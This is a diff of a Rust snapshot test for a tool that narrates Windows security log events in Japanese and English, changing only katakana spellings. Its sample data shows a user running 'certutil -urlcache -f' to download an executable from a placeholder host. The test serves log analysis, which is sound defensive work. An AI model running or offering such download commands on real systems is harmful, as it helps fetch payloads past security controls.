@@ -191,7 +191,7 @@ fn both_logs_about_one_process_and_what_it_touched_are_one_act() {
         security(4688, "01:02:00", &[("NewProcessId", "0x1570"), ("NewProcessName", r"C:\b.exe")]),
     ];
     assert_snapshot!(said(&lines), @r"
-    tanaka が FS01 で certutil.exe を実行し、終了した：certutil -urlcache -f http://example.org/a a.exe（ライブラリー 1 個、レジストリー 1 回、通信 1 回、名前解決 1 回、宛先 203.0.113.5, example.org、1 分間、成功）
+    tanaka が FS01 で certutil.exe を実行し、終了した：certutil -urlcache -f http://example.org/a a.exe（ライブラリ 1 個、レジストリ 1 回、通信 1 回、名前解決 1 回、宛先 203.0.113.5, example.org、1 分間、成功）
     tanaka ran certutil.exe on FS01: certutil -urlcache -f http://example.org/a a.exe (libraries: 1, registry: 1, connections: 1, lookups: 1, destinations: 203.0.113.5, example.org, over 1 min, it ended)
     名前のない利用者が FS01 で b.exe を実行した（継続中、終了の記録なし）
     An unnamed user started b.exe on FS01 (going on, no end recorded)
